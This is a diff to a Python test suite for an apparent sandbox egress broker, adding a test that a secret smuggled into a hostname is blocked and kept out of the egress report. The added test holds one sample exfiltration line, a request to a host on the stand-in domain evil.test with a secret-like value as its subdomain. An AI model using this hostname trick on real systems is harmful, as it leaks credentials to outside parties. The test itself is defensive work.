@@ -18,6 +18,7 @@ from broker.core.call import Cause
 from broker.core.destination import read_destination
 from broker.core.egress import Egress, EgressProtocol, EgressReason
 from broker.core.sandbox import Profile
+from broker.core.secret import Secret
 from broker.errors import SandboxError
 from tests.broker_process import DOCKER_URL
 from tests.egress.places import LOOPBACK, Names, Places
@@ -237,6 +238,19 @@ else:
 """
         assert await run(code, place) == "SSLError\n"
         assert await run(code, place, protocol=EgressProtocol.TCP) == "TLSv1.3\n"
+
+    @pytest.mark.parametrize("value", [b"", b"s3cr3t0123456789"], ids=["twin", "with a secret"])
+    async def test_a_secret_as_a_host_is_not_told(self, bench: Bench, value: bytes) -> None:
+        """What a tool that has a secret asks for and does not get is not in the report."""
+        code = 'print(get("s3cr3t0123456789.evil.test:443")[9:12])'
+        sandbox = await bench.prepare(egress=to("site.test:80"))
+        given = (Secret(name="api_token", value=value),) if value else ()
+        report = await sandbox.run(replace(job(PROBES + code), secrets=given))
+        await sandbox.discard()
+        assert report.stdout.data == b"403\n"
+        assert report.egress is not None
+        told = json.dumps(report.egress.listing)
+        assert ("s3cr3t" in told, "NOT_LISTED" in told) == (not value, True)
 
     async def test_concurrent_calls_keep_their_own_lists(self, run: Run, places: Places) -> None:
         """Containers that run at the same time reach their own places, not each other's."""
